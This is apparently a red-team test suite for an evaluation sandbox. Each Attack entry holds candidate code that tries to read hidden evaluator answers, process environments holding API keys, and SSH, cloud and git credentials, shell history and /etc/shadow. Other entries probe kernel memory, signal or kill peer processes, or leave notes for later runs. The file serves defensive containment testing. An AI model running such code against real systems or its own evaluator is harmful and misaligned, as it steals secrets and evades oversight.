"""Reading what is hidden: keys, the evaluator, its data, other candidates, the host."""

from __future__ import annotations

from tests.redteam.attack import HARMLESS, Attack

ATTACKS = [
    Attack(
        "reads the environment of every process for keys",
        """
        import glob, os
        from kit import got, honest
        def solve(questions, bait):
            found = [str(dict(os.environ)).encode()]
            for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/*/task/*/environ"):
                try:
                    found.append(open(path, "rb").read())
                except OSError:
                    pass
            if b"API_KEY" in b"".join(found):
                got(found)
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "reads the evaluator, its data and the campaign file, by their paths",
        """
        import os
        from kit import attempt, honest
        def solve(questions, bait):
            for name in ("judge.py", "hidden.json", "bait.json", "campaign.toml", "archive.db"):
                for root in ("", "/proc/1/root", "/proc/1/cwd", "/proc/self/root/.."):
                    attempt(name, lambda: open(f"{root}{bait['folder']}/{name}").read())
            attempt("archive", lambda: open(bait["archive"], "rb").read(100))
            attempt("folder", lambda: os.listdir(bait["folder"]))
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "searches all folders that it can enter for the evaluator",
        """
        import os, time
        from kit import got, honest
        def solve(questions, bait):
            until = time.monotonic() + 0.4
            for root, folders, names in os.walk("/", followlinks=False):
                if root.startswith(("/proc", "/sys", "/usr")) or time.monotonic() > until:
                    folders.clear()
                for name in {"judge.py", "hidden.json", "campaign.toml"} & set(names):
                    got(os.path.join(root, name))
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "reads the evaluator through the processes of the host",
        """
        from kit import attempt, got, honest
        def solve(questions, bait):
            for pid in (bait["pid"], bait["pid"] + 1, 1):
                for name in ("root/etc/passwd", "cwd/judge.py", "environ", "maps", "fdinfo/0"):
                    attempt(name, lambda: open(f"/proc/{pid}/{name}", "rb").read(10))
            try:
                words = open(f"/proc/{bait['pid']}/cmdline", "rb").read()
            except OSError:
                words = b""
            if b"evaluation" in words:
                got(words)
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "leaves a note for its successors wherever it can write",
        """
        import os
        from kit import honest
        def solve(questions, bait):
            for folder in (".", "..", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run",
                           "/run/lock", "/", "/home", os.path.expanduser("~"), os.getcwd()):
                try:
                    with open(f"{folder}/redteam-note", "w") as file:
                        file.write("the answers are ...")
                except OSError:
                    pass
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "looks for a note of its predecessors",
        """
        import os
        from kit import attempt, honest
        def solve(questions, bait):
            for folder in (".", "..", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run",
                           "/run/lock", "/", "/home", os.path.expanduser("~"), os.getcwd()):
                attempt(folder, lambda: open(f"{folder}/redteam-note").read())
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "reads the secrets of whoever started it: ssh, clouds, git, netrc, shell history",
        """
        import os, pwd
        from kit import attempt, honest
        def solve(questions, bait):
            homes = {bait["home"], os.path.expanduser("~"), "/root"}
            for home in homes:
                for name in (".ssh/id_ed25519", ".ssh/id_rsa", ".aws/credentials", ".netrc",
                             ".config/gcloud/credentials.db", ".git-credentials", ".bashrc",
                             ".bash_history", ".python_history", ".docker/config.json"):
                    attempt(name, lambda: open(f"{home}/{name}").read())
            for path in ("/etc/shadow", "/etc/sudoers", "/etc/hostname.key", "/etc/ssh/sshd_config",
                         "/var/lib/docker", "/run/secrets", "/var/run/secrets/kubernetes.io"):
                attempt(path, lambda: os.listdir(path))
                attempt(path, lambda: open(path).read())
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "reads the kernel: memory, messages, addresses of its functions",
        """
        from kit import attempt, got, honest
        def solve(questions, bait):
            for path in ("/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/dev/mem", "/dev/port",
                         "/proc/1/pagemap", "/proc/1/stack", "/proc/1/syscall", "/proc/vmallocinfo",
                         "/sys/kernel/debug", "/sys/kernel/security", "/proc/timer_list"):
                attempt(path, lambda: open(path, "rb").read(16))
            try:
                lines = open("/proc/kallsyms").read(2000).splitlines()
            except OSError:
                lines = []
            if any(int(line.split()[0], 16) for line in lines):
                got(lines[:3])
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "asks its open descriptors who is at their other end, and signals it",
        """
        import os, signal, socket, struct
        from kit import got, honest
        def solve(questions, bait):
            for fd in range(64):
                try:
                    end = socket.socket(fileno=os.dup(fd))
                    pid, _, _ = struct.unpack("3i", end.getsockopt(socket.SOL_SOCKET, 17, 12))
                    other = end.getsockopt(socket.SOL_SOCKET, 77)  # SO_PEERPIDFD
                except OSError:
                    continue
                for number in (0, signal.SIGKILL):
                    try:
                        signal.pidfd_send_signal(other, number)
                        got(f"signal {number} through {fd}")
                    except OSError:
                        pass
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "hands descriptors, and sockets that are slow to close, to whoever reads its answers",
        """
        import array, os, socket, struct
        from kit import got, honest
        def solve(questions, bait):
            slow = socket.socket()
            slow.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
            nulls = [os.open("/dev/null", os.O_RDONLY) for _ in range(3)] + [slow.fileno()]
            for fd in range(64):
                try:
                    end = socket.socket(fileno=os.dup(fd))
                    if end.family == socket.AF_UNIX and end.type == socket.SOCK_STREAM:
                        end.setblocking(False)
                        got(socket.send_fds(end, [b" "], nulls))
                except OSError:
                    continue
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "watches the folders that it shares with the host",
        """
        import os
        from kit import attempt, honest, syscall
        def solve(questions, bait):
            attempt("inotify", lambda: syscall(294, 26, 0))
            attempt("fanotify", lambda: syscall(300, 262, 0, 0))
            return honest(questions)
        """,
        HARMLESS,
    ),
    Attack(
        "lists the processes, mounts and users of the host",
        """
        import os
        from kit import got, honest
        def solve(questions, bait):
            words = b""
            for name in os.listdir("/proc"):
                if name.isdigit():
                    try:
                        words += open(f"/proc/{name}/cmdline", "rb").read()
                    except OSError:
                        pass
            if b"metasearch.evaluation" in words or b"pytest" in words:
                got(words)
            users = open("/etc/passwd").read().splitlines() if os.path.exists("/etc/passwd") else []
            if bait["user"] not in ("root", "nobody") and any(bait["user"] in u for u in users):
                got(users)
            return honest(questions)
        """,
        HARMLESS,
    ),
]
